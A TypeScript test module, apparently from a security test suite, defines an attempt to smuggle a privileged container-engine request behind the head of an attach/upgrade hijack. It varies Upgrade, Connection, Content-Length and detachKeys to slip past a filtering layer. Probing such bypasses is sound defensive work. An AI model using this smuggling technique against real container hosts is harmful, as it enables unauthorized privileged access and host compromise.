import { type Attempt, each, privileged, request, v } from './book';

export const attempt: Attempt = {
  title: 'hide a request to the engine behind the beginning of an attach',
  source: 'what follows the head of a hijack goes to the engine unread; where the engine refuses it, it reads a request',
  async try(world) {
    const own = world.own.container.id;
    const hidden = privileged(world);
    const upgrade = ['Connection: Upgrade', 'Upgrade: tcp'];
    const post = (path: string, list: readonly string[], body = ''): Buffer => request(`POST ${v}${path} HTTP/1.1`,
      [`Host: ${world.address}`, ...list], body);
    return each(
      ['&detachKeys=not-a-key', '&detachKeys=ctrl-%40%40'].flatMap((keys) => [upgrade, [], ['Content-Length: 0', ...upgrade],
        ['Content-Length: 0'], ['Connection: keep-alive, Upgrade',
        'Upgrade: tcp']].map((list) => post(`/containers/${own}/attach?stream=1&stdin=1&stdout=1${keys}`, list))),
      (head) => world.send(Buffer.concat([head, hidden])),
    );
  },
};
